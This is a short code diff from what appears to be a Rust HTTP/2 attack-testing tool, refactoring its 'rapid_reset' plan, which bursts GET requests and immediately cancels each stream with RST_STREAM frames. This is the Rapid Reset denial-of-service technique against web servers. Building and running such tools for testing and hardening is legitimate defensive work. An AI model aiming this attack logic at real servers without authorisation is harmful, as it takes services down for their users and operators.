@@ -6,7 +6,7 @@ use crate::attack::{Plan, Victim};
 use crate::encode;
 use crate::http::{self, Method};
 
-use super::{Crowd, crowd};
+use super::Crowd;
 
 /// The entry of the attack in the list.
 pub(super) const PLAN: Plan = Plan {
@@ -18,11 +18,9 @@ pub(super) const PLAN: Plan = Plan {
 };
 
 fn rapid_reset() -> Crowd {
-    Crowd::new(2, |connection, progress, _| {
+    Crowd::of_clients(2, |connection, progress, _| {
         let request = http::request(Method::Get, "/");
-        for _ in 0..crowd::permitted(connection, progress, BURST) {
-            let id = http::request_stream(progress.streams);
-            progress.streams += 1;
+        for id in progress.requests(connection, BURST) {
             let reset = ResetStream {
                 id,
                 error_code: REQUEST_CANCELLED,
@@ -38,7 +36,6 @@ fn rapid_reset() -> Crowd {
             connection.push_bytes(frames);
         }
     })
-    .with_begin(crowd::preface)
 }
 
 /// Requests of one connection in one turn.
